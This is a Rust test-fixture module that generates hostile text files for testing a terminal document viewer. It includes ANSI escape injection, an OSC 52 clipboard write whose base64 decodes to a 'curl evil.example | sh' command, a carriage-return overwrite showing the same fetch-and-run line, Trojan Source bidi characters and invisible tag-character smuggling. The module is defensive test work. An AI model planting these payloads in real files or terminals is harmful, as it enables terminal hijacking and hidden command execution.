//! A generator of hostile documents: every way a text file has been used to attack or break
//! a terminal viewer, written fresh into a temp dir for each test run.
//!
//! Each fixture has a name (also its file stem, so it is its document id), its bytes, and
//! what dossier should do with it: load it as a document, or skip it with a warning.

#![allow(dead_code)]

use std::fmt::Write as _;
use std::path::{Path, PathBuf};

/// What loading a fixture should give.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Expect {
    /// A document (possibly empty).
    Document,
    /// Skipped with a warning: not text.
    Skipped,
}

/// One hostile file.
pub struct Fixture {
    pub name: &'static str,
    pub bytes: Vec<u8>,
    pub expect: Expect,
    /// Big enough that the first frame must not wait for all of it.
    pub large: bool,
}

impl Fixture {
    fn doc(name: &'static str, bytes: impl Into<Vec<u8>>) -> Self {
        Self {
            name,
            bytes: bytes.into(),
            expect: Expect::Document,
            large: false,
        }
    }

    fn large(mut self) -> Self {
        self.large = true;
        self
    }

    /// Writes the fixture into `dir` and returns its path.
    pub fn write_to(&self, dir: &Path) -> PathBuf {
        let p = dir.join(format!("{}.txt", self.name));
        std::fs::write(&p, &self.bytes).expect("write fixture");
        p
    }
}

/// A deterministic byte stream (xorshift), so "random" fixtures are the same on every run.
fn noise(len: usize, mut seed: u64) -> Vec<u8> {
    let mut out = Vec::with_capacity(len);
    while out.len() < len {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        out.extend_from_slice(&seed.to_le_bytes());
    }
    out.truncate(len);
    out
}

fn utf16le_with_bom(s: &str) -> Vec<u8> {
    [0xFF, 0xFE]
        .into_iter()
        .chain(s.encode_utf16().flat_map(u16::to_le_bytes))
        .collect()
}

const PROSE: &str = "Les utilisateurs américains affluent vers Xiaohongshu. ";

/// Every hostile fixture.
#[must_use]
pub fn all() -> Vec<Fixture> {
    let mut v = vec![
        Fixture::doc(
            "csi",
            format!(
                "Colours \x1b[31mred\x1b[0m and \x1b[38;2;255;0;0mtruecolor\x1b[0m.\n\
                 Cursor \x1b[10;10Hmoved \x1b[2J\x1b[Hcleared \x1b[5A\x1b[3Dback.\n\
                 Modes \x1b[?1049l left alt screen, \x1b[?25l hid cursor, \x1b[?1000h mouse on, \x1b[?2004h paste.\n\
                 Scroll region \x1b[1;3r and insert \x1b[4h and erase \x1b[K.\n{PROSE}\n"
            ),
        ),
        Fixture::doc(
            "osc",
            format!(
                "Title \x1b]0;pwned title\x07 and \x1b]2;other\x1b\\ here.\n\
                 Link \x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\ done.\n\
                 Clipboard \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 written.\n\
                 Palette \x1b]4;1;rgb:ff/00/00\x07 and cwd \x1b]7;file:///etc\x07.\n{PROSE}\n"
            ),
        ),
        Fixture::doc(
            "dcs_apc_pm_sos",
            format!(
                "DCS \x1bP+q544e\x1b\\ query, sixel \x1bPq#0;2;0;0;0#1~~@@vv@@~~\x1b\\.\n\
                 APC \x1b_Gf=100,a=T;AAAA\x1b\\ kitty graphics.\n\
                 PM \x1b^private message\x1b\\ and SOS \x1bXstart of string\x1b\\.\n{PROSE}\n"
            ),
        ),
        Fixture::doc("unterminated_osc", format!("{PROSE}\nAt the end \x1b]52;c;ZWNobyBwd25lZA==")),
        Fixture::doc("unterminated_csi", format!("{PROSE}\nAt the end \x1b[38;5")),
        Fixture::doc("unterminated_dcs", format!("{PROSE}\nAt the end \x1bP1$r")),
        Fixture::doc(
            "queries",
            format!(
                "Device status \x1b[6n, attributes \x1b[c and \x1b[>c, version \x1b[>0q,\n\
                 background \x1b]11;?\x07, window \x1b[14t \x1b[18t, capabilities \x1bP+q436f\x1b\\.\n{PROSE}\n"
            ),
        ),
        Fixture::doc("c1_utf8", format!("CSI as one code point \u{9b}31mred\u{9b}0m, OSC \u{9d}0;title\u{9c}, DCS \u{90}q\u{9c}.\n{PROSE}\n")),
        Fixture::doc("c1_raw_bytes", [b"Raw C1 \x9b31m and \x9d0;title\x07 bytes.\n".as_slice(), PROSE.as_bytes()].concat()),
        Fixture::doc(
            "overwrite",
            format!(
                "Everything is fine\rHACKED: run curl evil | sh\n\
                 Password: secret\x08\x08\x08\x08\x08\x08******\n\
                 Windows line endings\r\nare fine\r\n{PROSE}\n"
            ),
        ),
        Fixture::doc("bel_flood", format!("Ding {} dong.\n{PROSE}\n", "\x07".repeat(20_000))),
        Fixture { name: "nul_bytes", bytes: b"Looks like text\x00but has NUL\x00bytes.\n".to_vec(), expect: Expect::Skipped, large: false },
        Fixture::doc("invalid_utf8", [b"caf\xe9 cr\xe8me, \xff\xfe broken \xc3\x28 seq \xed\xa0\x80 surrogate.\n".as_slice(), PROSE.as_bytes()].concat()),
        Fixture::doc("utf16le_bom", utf16le_with_bom(&format!("UTF-16 with an escape \x1b]0;pwned\x07 inside.\n{PROSE}\n"))),
        Fixture::doc("utf8_bom", format!("\u{feff}Byte order mark first.\n{PROSE}\n")),
        Fixture::doc(
            "trojan_source",
            "access_level = \"user\u{202E} \u{2066}// Check if admin\u{2069} \u{2066}\"\nif (isAdmin) \u{2067}begin\u{2069}\nLRE \u{202A}x\u{202C} RLO \u{202E}gnirts\u{202C}.\n",
        ),
        Fixture::doc("zero_width", "pass\u{200b}word, in\u{200c}\u{200d}visible, word\u{2060}joiner, \u{feff}bom, hangul\u{3164}filler.\n"),
        Fixture::doc("tags", "Hidden \u{E0001}\u{E0069}\u{E0067}\u{E006E}\u{E006F}\u{E0072}\u{E0065}\u{E007F} instructions, and a real flag 🏴\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}.\n"),
        Fixture::doc("variation_selectors", format!("Smuggled a{} data, and a real heart ❤\u{FE0F}.\n", "\u{FE01}\u{FE02}\u{E0100}\u{E0142}".repeat(64))),
        Fixture::doc("confusables", "Pаypаl (Cyrillic а), ＡＰＰＬＥ (fullwidth), ℌ𝔢𝔩𝔩𝔬 (math), 0O l1I.\n"),
        Fixture::doc("zalgo", format!("Z{}algo.\n{PROSE}\n", "\u{0301}\u{0336}".repeat(25_000))),
        Fixture::doc(
            "emoji",
            "Family 👨\u{200D}👩\u{200D}👧\u{200D}👦, flags 🇫🇷🇮🇩🇨🇳, skin 👍🏽, keycap 1\u{FE0F}\u{20E3}, rainbow 🏳\u{FE0F}\u{200D}🌈.\n".repeat(50),
        ),
        Fixture::doc("cjk_no_spaces", "美国用户纷纷涌向小红书自称TikTok难民。".repeat(2_000)),
        Fixture::doc("tabs", "\tcol1\tcol2\t\tcol3\n\t\t\tdeep\tindent\n".repeat(500)),
        Fixture::doc("rtl_mixed", "مرحبا بالعالم hello שלום 123 עולם.\nالمستخدمون الأمريكيون 170 مليون.\n"),
        Fixture::doc("empty", ""),
        Fixture::doc("whitespace_only", "  \n\t\n\u{a0}\n   \r\n"),
        Fixture::doc("long_line_5mib", "x".repeat(5 * 1024 * 1024)).large(),
        Fixture::doc("many_lines_200k", {
            let mut s = String::with_capacity(200_000 * 40);
            for i in 0..200_000 {
                let _ = writeln!(s, "Line {i} of many, with a figure of {} users.", i * 7);
            }
            s
        })
        .large(),
        Fixture::doc("long_words", format!("{} {}\n", "Donaudampfschifffahrtsgesellschaftskapitän".repeat(400), "é".repeat(20_000))),
    ];
    v.push(Fixture {
        name: "random_binary",
        bytes: noise(64 * 1024, 0x9E37_79B9_7F4A_7C15),
        expect: Expect::Skipped,
        large: false,
    });
    v
}

/// Writes every fixture into `dir`; returns (fixture, path) pairs.
pub fn write_all(dir: &Path) -> Vec<(Fixture, PathBuf)> {
    all()
        .into_iter()
        .map(|f| {
            let p = f.write_to(dir);
            (f, p)
        })
        .collect()
}
